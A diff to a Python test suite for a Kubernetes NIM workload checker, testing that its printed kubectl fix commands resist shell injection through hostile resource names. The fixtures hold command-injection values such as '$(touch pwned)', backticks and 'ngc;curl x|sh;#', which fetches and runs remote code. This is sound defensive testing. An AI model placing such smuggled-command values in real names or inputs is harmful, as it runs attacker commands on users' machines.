@@ -19,6 +19,7 @@ from nimdoctor.cli import cli
 from nimdoctor.report import Severity, Status
 from nimdoctor.workloads.events import FindingKey, event_body
 from nimdoctor.workloads.report import ObjectInfo, WorkloadFinding
+from nimdoctor.workloads.rules.names import shell
 
 WL_IDS = sorted(i for i in load_catalog().checks if i.startswith("NIM-WL-"))
 
@@ -101,6 +102,14 @@ spec:
   authSecret: ngc-api-secret
   storage:
     nimCache: {name: "llama\\ntouch pwned-cache"}
+---
+apiVersion: apps.nvidia.com/v1alpha1
+kind: NIMService
+metadata: {name: llm3, namespace: team}
+spec:
+  image: {repository: nvcr.io/nim/meta/llama-3.2-1b-instruct, tag: "1.12.0", pullSecrets: [ngc-secret]}
+  authSecret: ngc-api-secret
+  storage: {emptyDir: {}}
 """
 
 
@@ -123,23 +132,45 @@ def test_hostile_names_create_nothing_when_fixes_are_pasted_into_a_shell(tmp_pat
     assert cache["status"] == "fail"
     assert "\n" not in cache["message"]
     assert "not a valid NIMCache name" in cache["message"]
+    hostile_service = by_id["llm$(touch pwned-name)", "NIM-WL-001"]  # its own name is in the fix
+    assert hostile_service["message"].endswith(
+        "(cache 'llm$(touch pwned-name)', pull secret 'ngc;touch pwned-pull;#', "
+        "auth secret 'ngc-api-secret$(touch pwned-auth)': not a valid Kubernetes name)"
+    )
+    assert "kubectl" not in hostile_service["fix"]
     pasted = [c for f in findings if f.get("fix") for c in commands(f["fix"])]
-    assert pasted, "the fixes print kubectl commands"
-    bin_dir = tmp_path / "bin"
-    bin_dir.mkdir()
-    stub = bin_dir / "kubectl"
-    stub.write_text("#!/bin/sh\nexit 0\n")
-    stub.chmod(0o755)
-    work = tmp_path / "work"
-    work.mkdir()
-    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}
-    for command in pasted:
-        subprocess.run(["sh", "-c", command], cwd=work, env=env, capture_output=True, timeout=30, check=False)
+    assert "kubectl get nimcache llm3 -n team" in pasted  # the valid service's fix still has its command
+    work = paste(tmp_path, pasted)
     assert sorted(p.name for p in work.iterdir()) == []
     for finding in findings:
         for text in (finding["message"], finding.get("fix") or ""):
             assert "\x1b" not in text
             assert "\r" not in text
+
+
+def paste(tmp_path: Path, pasted: list[str]) -> Path:
+    """Run each command with `sh -c` in an empty folder, `kubectl` a stand-in that records its arguments."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    stub = bin_dir / "kubectl"
+    stub.write_text('#!/bin/sh\nprintf "%s\\n" "$@" >> "$KUBECTL_ARGS"\n')
+    stub.chmod(0o755)
+    work = tmp_path / "work"
+    work.mkdir()
+    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "KUBECTL_ARGS": str(tmp_path / "args")}
+    for command in pasted:
+        subprocess.run(["sh", "-c", command], cwd=work, env=env, capture_output=True, timeout=30, check=False)
+    return work
+
+
+@pytest.mark.parametrize(
+    "name", ["ngc-api-secret$(touch pwned)", "ngc;curl x|sh;#", "llama\ntouch pwned", "`touch pwned`"]
+)
+def test_a_quoted_name_reaches_kubectl_as_one_argument(tmp_path: Path, name: str) -> None:
+    work = paste(tmp_path, [f"kubectl get secret {shell(name)} -n team"])
+    assert sorted(p.name for p in work.iterdir()) == []
+    args = (tmp_path / "args").read_text().splitlines()
+    assert args == ["get", "secret", name.replace("\n", "\ufffd"), "-n", "team"]
 
 
 def test_event_messages_are_one_line_without_terminal_control() -> None:
